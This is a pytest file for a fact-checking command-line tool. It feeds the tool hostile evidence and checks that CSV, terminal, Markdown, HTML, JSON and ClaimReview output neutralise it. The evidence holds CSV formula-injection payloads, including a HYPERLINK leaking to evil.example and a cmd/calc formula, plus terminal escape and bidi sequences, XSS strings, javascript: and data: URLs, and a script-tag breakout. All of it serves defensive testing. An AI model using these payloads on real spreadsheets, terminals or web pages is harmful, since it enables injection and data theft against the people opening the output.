"""Hostile evidence in every output: formula injection in CSV, terminal escape
sequences, markup and links in Markdown, `javascript:` addresses in ClaimReview,
and an `--out` that cannot be written. Each fault is a named row of a table.

The case is built here: an email whose subject and body carry the attacks, an
analyst fact quoting that body, and claims whose own text is hostile too.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from checker.case.load import load_case
from checker.check.checker import Checker
from checker.cli import app
from checker.errors import CaseInvalid
from checker.report import FORMATS
from checker.report.context import ReportContext
from checker.report.csvout import cell
from checker.report.mdkit import md, md_cell, md_code
from checker.report.terminal import PAGED, json_printable, printable
from tests.conftest import DEFAULT_EMAIL, CaseBuilder

runner = CliRunner()

ESC = "\x1b"
CSI_C1 = "\x9b"  # the one-character CSI
RLO = "\u202e"  # right-to-left override
OSC_LINK = f"{ESC}]8;;http://evil.example/{ESC}\\click here{ESC}]8;;{ESC}\\"
SUBJECT = (
    f'=HYPERLINK("http://evil.example/?leak","open") {OSC_LINK} '
    f"<img src=x onerror=alert(1)> {ESC}[31mRED{ESC}[0m"
)
QUOTE = (
    f"We signed the trial agreement today. {ESC}[2J{CSI_C1}31m{RLO}txt.exe "
    "<script>alert(1)</script> ![x](http://evil.example/t.png) [y](javascript:alert(1)) "
    "<javascript:alert(3)> \\[z](javascript:alert(4))"
)
EMAIL = f"""\
From: Ann Lee <ann@acme.example.com>
To: Val Ortiz <val@vendor.example.org>
Date: Tue, 03 Mar 2020 10:00:00 +0000
Subject: {SUBJECT}
Message-ID: <m1@acme.example.com>
Content-Type: text/plain; charset="utf-8"

{QUOTE}
Ann
"""
TOPIC = "<img src=x onerror=alert(5)> [t](javascript:alert(6)) [d]: javascript:alert(7)"
MET_TOPIC = "<svg onload=alert(8)> [m](javascript:alert(9))"
CLAIMS = f"""\
- id: no-contract
  speaker: acme
  quote: {json.dumps("=cmd|' /C calc'!A0 <b>never</b> signed anything " + RLO + "evil")}
  source: "@press <i>release</i>"
  asserts:
    none: {{fact: contract, parties: [acme, vendor]}}
- id: met-about
  speaker: vendor
  quote: "-2+3 We met Acme about it."
  asserts:
    some: {{fact: meeting, participants: [acme, vendor], topic: {json.dumps(TOPIC)}}}
"""
FACTS = f"""\
- id: f-trial
  fact: contract
  parties: [acme, vendor]
  kind: trial
  from: 2020-03-03
  source:
    doc: evidence/m1.eml
    quote: {json.dumps(QUOTE)}
- id: f-met
  fact: meeting
  participants: [acme, vendor]
  topic: {json.dumps(MET_TOPIC)}
  date: 2020-03-03
  source:
    doc: evidence/m1.eml
    quote: "We signed the trial agreement today."
"""
BAD_NAME = f"{ESC}[31mred{ESC}[0m"  # file names are evidence too: .eml read, .bin skipped

# Characters that must never reach a terminal raw (newline and tab aside).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(make_case: CaseBuilder) -> Path:
    root = make_case(claims=CLAIMS, facts=FACTS, emails={"m1.eml": EMAIL})
    (root / "evidence" / f"{BAD_NAME}.bin").write_bytes(b"\x00\x01binary")
    (root / "evidence" / f"{BAD_NAME}.eml").write_text(DEFAULT_EMAIL)
    return root


def invoke(*args: str | Path) -> Any:
    return runner.invoke(app, [str(a) for a in args])


def render(fmt: str, root: Path) -> str:
    case = load_case(root)
    return FORMATS[fmt](Checker(case).run(), ReportContext.of(case))


def test_report_hostile_case_carries_the_attacks(hostile: Path) -> None:
    case = load_case(hostile)
    doc = case.documents["evidence/m1.eml"]

    assert doc.messages[0].subject == SUBJECT
    assert QUOTE in doc.text
    assert [c.verdict for c in Checker(case).run().claims] == ["contradicted", "unresolved"]


# -- CSV: formula injection -------------------------------------------------------
@pytest.mark.parametrize(
    "value, written",
    [
        pytest.param("=1+1", "'=1+1", id="csv-formula-equals"),
        pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="csv-formula-plus"),
        pytest.param("-2+3", "'-2+3", id="csv-formula-minus"),
        pytest.param("@SUM(A1:A9)", "'@SUM(A1:A9)", id="csv-formula-at"),
        pytest.param("\t=1+1", "'\t=1+1", id="csv-formula-tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="csv-formula-carriage-return"),
        pytest.param("-3", "-3", id="csv-negative-number-text-kept"),
        pytest.param("+1.5e3", "+1.5e3", id="csv-signed-number-text-kept"),
        pytest.param(-3, -3, id="csv-negative-number-kept"),
        pytest.param(None, "", id="csv-none-is-empty"),
        pytest.param("a=b", "a=b", id="csv-equals-inside-kept"),
    ],
)
def test_report_hostile_csv_cell_neutralises_formulas(value: object, written: object) -> None:
    assert cell(value) == written


@pytest.mark.parametrize(
    "fmt, column, expected",
    [
        pytest.param("csv", "quote", "'=cmd|' /C calc'!A0", id="csv-formula-injection-quote"),
        pytest.param("csv", "quote", "'-2+3 We met", id="csv-formula-injection-minus"),
        pytest.param(
            "exhibits-csv", "description", "'=HYPERLINK(", id="exhibits-csv-formula-injection"
        ),
    ],
)
def test_report_hostile_csv_outputs_have_no_formula_cells(
    hostile: Path, fmt: str, column: str, expected: str
) -> None:
    rows = list(csv.DictReader(io.StringIO(render(fmt, hostile))))

    assert any(r[column].startswith(expected) for r in rows)
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# -- terminals: escape sequences shown, never obeyed ------------------------------
@pytest.mark.parametrize(
    "text, keep, shown",
    [
        pytest.param(f"{ESC}[31mred{ESC}[0m", "\n\t", "\\x1b[31mred\\x1b[0m", id="ansi-colour"),
        pytest.param(OSC_LINK, "\n\t", "\\x1b]8;;http://evil.example/\\x1b\\click here"
                     "\\x1b]8;;\\x1b\\", id="osc8-hyperlink"),
        pytest.param(f"{CSI_C1}2J", "\n\t", "\\x9b2J", id="c1-csi"),
        pytest.param(f"a{RLO}b\u2066c", "\n\t", "a\\u202eb\\u2066c", id="bidi-override"),
        pytest.param("a\rb\bc\x7f\x00", "\n\t", "a\\x0db\\x08c\\x7f\\x00", id="cr-backspace-del"),
        pytest.param("line\n\tindent", "\n\t", "line\n\tindent", id="layout-kept"),
        pytest.param("page\f\n", PAGED, "page\f\n", id="form-feed-kept-for-pages"),
        pytest.param("page\f\n", "\n\t", "page\\x0c\n", id="form-feed-shown-elsewhere"),
        pytest.param("Ann — é ✓ שלום", "\n\t", "Ann — é ✓ שלום", id="plain-unicode-kept"),
    ],
)
def test_report_hostile_printable_shows_control_characters(
    text: str, keep: str, shown: str
) -> None:
    assert printable(text, keep) == shown


def test_report_hostile_json_printable_keeps_the_data() -> None:
    data = {"s": f"{ESC}[31m{CSI_C1}{RLO}\x7f"}
    text = json_printable(json.dumps(data, indent=2, ensure_ascii=False))

    assert not RAW_CONTROL.search(text)
    assert json.loads(text) == data


@pytest.mark.parametrize(
    "args, shown",
    [
        pytest.param(["check"], "\\x1b[2J\\x9b31m\\u202etxt.exe", id="check-table-ansi-quote"),
        pytest.param(["check"], "\\x1b]8;;http://evil.example/", id="check-table-osc8-subject"),
        pytest.param(["check", "-f", "markdown"], "\\x1b[2J", id="check-markdown-ansi"),
        pytest.param(["check", "-f", "questions"], "\\x1b[2J", id="check-questions-ansi"),
        pytest.param(["check", "-f", "exhibits"], "\\x1b[31mRED", id="check-exhibits-ansi"),
        pytest.param(["check", "-f", "html"], "\\x1b[2J", id="check-html-ansi"),
        pytest.param(["check", "-f", "csv"], "\\u202eevil", id="check-csv-bidi"),
        pytest.param(["check", "-f", "exhibits-csv"], "\\x1b[31mRED", id="check-exhibits-csv-ansi"),
        pytest.param(["explain", "no-contract"], "\\x1b[2J", id="explain-ansi"),
        pytest.param(["facts"], "\\x1b[2J", id="facts-ansi"),
        pytest.param(["docs"], "\\x1b[31mred\\x1b[0m.eml", id="docs-ansi-file-name"),
        pytest.param(["show", "m1.eml"], "Subject: =HYPERLINK(", id="show-ansi-subject"),
        pytest.param(["show", "m1.eml"], "\\x1b[2J\\x9b31m", id="show-ansi-body"),
        pytest.param(["show", f"{ESC}[2Jnope"], "No record or file '\\x1b[2Jnope'",
                     id="show-error-ansi"),
        pytest.param(["validate"], "\\x1b[31mred\\x1b[0m.bin", id="validate-ansi-file-name"),
        pytest.param(["ingest"], "\\x1b[31mred\\x1b[0m.bin", id="ingest-ansi-file-name"),
    ],
)
def test_report_hostile_terminal_output_shows_escapes_never_raw(
    hostile: Path, args: list[str], shown: str
) -> None:
    result = invoke(*args, hostile)

    assert not RAW_CONTROL.search(result.stdout), result.stdout
    assert not RAW_CONTROL.search(result.stderr), result.stderr
    assert shown in result.stdout + result.stderr


@pytest.mark.parametrize(
    "args, escaped",
    [
        pytest.param(["check", "-f", "json"], "\\u009b31m\\u202e", id="check-json-c1-escaped"),
        pytest.param(["check", "-f", "claimreview"], "\\u202eevil", id="claimreview-bidi-escaped"),
        pytest.param(["docs", "-f", "json"], "\\u001b]8;;", id="docs-json-ansi-escaped"),
        pytest.param(["facts", "-f", "json"], "\\u009b31m\\u202e", id="facts-json-c1-escaped"),
        pytest.param(["ingest", "-f", "json"], "\\u001b[31mred", id="ingest-json-ansi-escaped"),
    ],
)
def test_report_hostile_json_output_escapes_every_control_character(
    hostile: Path, args: list[str], escaped: str
) -> None:
    result = invoke(*args, hostile)

    assert result.exit_code == 0, result.output
    assert not RAW_CONTROL.search(result.stdout)
    assert json.loads(result.stdout)  # still JSON, holding the evidence's own characters
    assert escaped in result.stdout


def test_report_hostile_json_output_round_trips_the_evidence(hostile: Path) -> None:
    result = invoke("check", "-f", "json", hostile)

    quotes = [c["quote"] for v in json.loads(result.stdout)["claims"] for c in v["citations"]]
    assert QUOTE in quotes


def test_report_hostile_out_file_is_made_printable_too(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.md"

    result = invoke("check", hostile, "-f", "markdown", "--out", out)

    assert result.exit_code == 0, result.output
    assert not RAW_CONTROL.search(out.read_text(encoding="utf-8"))


# -- Markdown: no markup, links or images from the case --------------------------
@pytest.mark.parametrize(
    "text, written",
    [
        pytest.param("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>",
                     id="md-raw-html-tag"),
        pytest.param("<!-- x --> <?php ?>", "&lt;!-- x --> &lt;?php ?>", id="md-html-comment"),
        pytest.param("<javascript:alert(1)>", "&lt;javascript:alert(1)>", id="md-autolink"),
        pytest.param("[y](javascript:alert(1))", "[y\\](javascript:alert(1))",
                     id="md-inline-link"),
        pytest.param("![x](http://e/t.png)", "![x\\](http://e/t.png)", id="md-image"),
        pytest.param("[y][ref]", "[y\\][ref]", id="md-reference-link"),
        pytest.param("[ref]: javascript:x", "[ref\\]: javascript:x", id="md-link-definition"),
        pytest.param("\\[y](javascript:x)", "\\\\[y\\](javascript:x)",
                     id="md-backslash-cannot-undo-escape"),
        pytest.param("&lt;img&gt; &#60;", "&amp;lt;img&amp;gt; &amp;#60;",
                     id="md-character-reference"),
        pytest.param("a\n\n<script>\nx", "a &lt;script> x", id="md-html-block-on-new-line"),
        pytest.param("Ann <ann@acme.example.com>", "Ann <ann@acme.example.com>",
                     id="md-email-address-kept"),
        pytest.param("[not given in the reporting] AT&T", "[not given in the reporting] AT&T",
                     id="md-plain-brackets-and-ampersand-kept"),
    ],
)
def test_report_hostile_md_makes_text_inert(text: str, written: str) -> None:
    assert md(text) == written


@pytest.mark.parametrize(
    "value, written",
    [
        pytest.param("a|b\\|c", "a\\|b\\\\\\|c", id="md-cell-pipe-cannot-split-table"),
        pytest.param("f-trial", "`f-trial`", id="md-code-plain-id"),
        pytest.param("a`<img src=x>`b", "``a`<img src=x>`b``", id="md-code-backtick-cannot-close"),
        pytest.param("`x`", "`` `x` ``", id="md-code-backtick-at-the-edges"),
    ],
)
def test_report_hostile_md_cell_and_code(value: str, written: str) -> None:
    assert (md_cell(value) if "|" in value else md_code(value)) == written


ALLOWED_TAGS = re.compile(
    r"</?(p|h1|h2|h3|table|thead|tbody|tr|th|td|blockquote|ol|ul|li|em|strong|code)>"
)
MAILTO = re.compile(r'<a href="mailto:[^"<>]+">|</a>')


@pytest.mark.parametrize(
    "fmt",
    [
        pytest.param("markdown", id="markdown-html-injection"),
        pytest.param("questions", id="questions-html-injection"),
        pytest.param("exhibits", id="exhibits-html-injection"),
    ],
)
def test_report_hostile_markdown_renders_no_markup_from_evidence(hostile: Path, fmt: str) -> None:
    from markdown_it import MarkdownIt  # rich's Markdown parser (CommonMark)

    text = render(fmt, hostile)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)

    tags = set(re.findall(r"<[^>]*>", MAILTO.sub("", ALLOWED_TAGS.sub("", html))))
    assert tags == set(), tags
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown as text


def test_report_hostile_html_escapes_every_value(hostile: Path) -> None:
    html = render("html", hostile)

    for raw in ("<img src=x", "<script>alert", "<b>never", "<i>release"):
        assert raw not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "javascript:" not in re.findall(r'(?:href|src)="([^"]*)"', html)


# -- ClaimReview: only http(s) addresses -----------------------------------------
PROBLEM_TAIL = "write the full address, starting with https:// (or http://)"


@pytest.mark.parametrize(
    "case_yaml, claim_url, problem",
    [
        pytest.param(
            "url: javascript:alert(1)\n",
            None,
            "case.yaml:2: 'url': Value error, 'javascript:alert(1)' is a javascript: address, "
            f"not http(s); {PROBLEM_TAIL}",
            id="claimreview-case-url-javascript",
        ),
        pytest.param(
            "publisher: {name: Desk, url: 'data:text/html,<script>alert(1)</script>'}\n",
            None,
            "case.yaml:2: 'publisher.url': Value error, 'data:text/html,<script>alert(1)</script>'"
            f" is a data: address, not http(s); {PROBLEM_TAIL}",
            id="claimreview-publisher-url-data",
        ),
        pytest.param(
            "",
            "JavaScript:alert(1)",
            "claims/claims.yaml:5: 'url': Value error, 'JavaScript:alert(1)' is a javascript: "
            f"address, not http(s); {PROBLEM_TAIL}",
            id="claimreview-claim-url-javascript",
        ),
        pytest.param(
            "",
            "//evil.example/x",
            "claims/claims.yaml:5: 'url': Value error, '//evil.example/x' is not a web address, "
            f"not http(s); {PROBLEM_TAIL}",
            id="claimreview-claim-url-no-scheme",
        ),
        pytest.param(
            "url: 'https://'\n",
            None,
            f"case.yaml:2: 'url': Value error, 'https://' names no host; {PROBLEM_TAIL}",
            id="claimreview-case-url-no-host",
        ),
        pytest.param(
            "",
            "https://acme.example.com/a b",
            "claims/claims.yaml:5: 'url': Value error, 'https://acme.example.com/a b' has spaces "
            f"or control characters in it; {PROBLEM_TAIL}",
            id="claimreview-claim-url-space",
        ),
    ],
)
def test_report_hostile_claimreview_url_must_be_http(
    make_case: CaseBuilder, case_yaml: str, claim_url: str | None, problem: str
) -> None:
    url = f"  url: {json.dumps(claim_url)}\n" if claim_url else ""
    claims = (
        "- id: c1\n  speaker: acme\n  quote: Q.\n  source: Press release\n"
        + url
        + "  asserts:\n    some: {fact: communication, from: acme}\n"
    )
    root = make_case(case="title: T\n" + case_yaml, claims=claims)

    result = invoke("validate", root)

    assert result.exit_code == 2
    assert result.stderr.splitlines()[1] == problem
    with pytest.raises(CaseInvalid):
        load_case(root)


def test_report_hostile_claimreview_keeps_http_urls(make_case: CaseBuilder) -> None:
    root = make_case(
        case="title: T\nurl: https://desk.example.org/checks\n"
        "publisher: {name: Desk, url: 'http://desk.example.org'}\n"
    )

    (review,) = json.loads(render("claimreview", root))

    assert review["url"] == "https://desk.example.org/checks#placeholder"
    assert review["author"]["url"] == "http://desk.example.org"


def test_report_hostile_claimreview_cannot_close_the_script_element(
    make_case: CaseBuilder,
) -> None:
    """ClaimReview JSON-LD goes inside <script type="application/ld+json">: a quote
    with "</script>" or "<!--" must not end it (the same JSON, as \\u escapes)."""
    claims = (
        "- id: c1\n  speaker: acme\n  quote: \"</script><script>alert(1)</script> <!-- & -->\"\n"
        "  url: 'https://desk.example.org/a?b=1&c=</script>'\n"
        "  asserts:\n    some: {fact: communication, from: acme}\n"
    )
    root = make_case(case="title: T\nurl: https://desk.example.org/checks\n", claims=claims)

    text = render("claimreview", root)

    assert "<" not in text and ">" not in text and "&" not in text
    (review,) = json.loads(text)
    assert review["claimReviewed"] == "</script><script>alert(1)</script> <!-- & -->"
    assert review["itemReviewed"]["appearance"]["url"] == "https://desk.example.org/a?b=1&c=</script>"


# -- --out is checked before the work --------------------------------------------
@contextmanager
def read_only(path: Path) -> Iterator[None]:
    """`path` (a file or folder) made read-only: by its mode, or, for root, whom modes do
    not stop, with the immutable attribute; skips where neither can be done."""
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(mode & ~0o222)
        try:
            yield
        finally:
            path.chmod(mode)
        return
    try:
        subprocess.run(["chattr", "+i", str(path)], check=True, capture_output=True)
    except (OSError, subprocess.CalledProcessError):
        pytest.skip("running as root where chattr +i is not available: cannot make "
                    f"{path} read-only")
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(path)], check=True)


NOTHING = "nothing was checked."


@pytest.mark.parametrize(
    "where, message",
    [
        pytest.param(
            "missing/dir/r.html",
            "the folder {tmp}/missing/dir does not exist. Create it (mkdir -p {tmp}/missing/dir) "
            "or give another --out; " + NOTHING,
            id="out-folder-missing",
        ),
        pytest.param(".", "it is a folder. Name a file in it instead; " + NOTHING,
                     id="out-is-a-folder"),
        pytest.param(
            "file.txt/r.html", "{tmp}/file.txt is not a folder. Give another --out; " + NOTHING,
            id="out-parent-is-a-file",
        ),
        pytest.param(
            "locked/r.html",
            "the folder {tmp}/locked is not writable. Give --out a folder you can write to; "
            + NOTHING,
            id="out-folder-read-only",
        ),
        pytest.param(
            "locked.html",
            "the file is read-only. Make it writable or give another --out; " + NOTHING,
            id="out-file-read-only",
        ),
    ],
)
def test_report_hostile_cli_out_path_is_checked_before_the_work(
    make_case: CaseBuilder, tmp_path: Path, where: str, message: str
) -> None:
    root = make_case()
    out_dir = tmp_path / "out"
    (out_dir / "locked").mkdir(parents=True)
    (out_dir / "file.txt").write_text("x")
    (out_dir / "locked.html").write_text("old")
    out = out_dir / where if where != "." else out_dir
    locked = out_dir / ("locked.html" if where == "locked.html" else "locked")

    with read_only(locked):
        result = invoke("check", root, "--format", "html", "--out", out)

    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: cannot write --out {out}: {message.format(tmp=out_dir)}\n"
    )
    assert not (root / ".checker").exists()  # the evidence was not even read
    assert (out_dir / "locked.html").read_text() == "old"


def test_report_hostile_cli_out_dash_is_stdout(make_case: CaseBuilder) -> None:
    result = invoke("check", make_case(), "--out", "-")

    assert result.exit_code == 0
    assert result.stdout.startswith("Case: Test case")
